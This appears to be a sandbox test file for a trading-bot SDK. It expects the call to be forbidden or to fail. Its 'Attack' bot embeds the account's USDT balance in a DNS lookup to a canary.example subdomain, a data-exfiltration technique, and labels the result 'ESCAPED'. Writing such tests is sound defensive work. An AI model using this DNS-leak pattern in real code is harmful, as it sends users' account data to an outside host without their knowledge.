# expect: FORBIDDEN|FAILED
# category: network
import socket

from bot_sdk import Action, CustomBot


class Attack(CustomBot):
    def execute_algorithm(self, data, timeframe, subscription_config):
        answer = socket.getaddrinfo(f"{self.get_balance('USDT')}.canary.example", 80)
        return Action("BUY", 1.0, f"ESCAPED: {answer}")
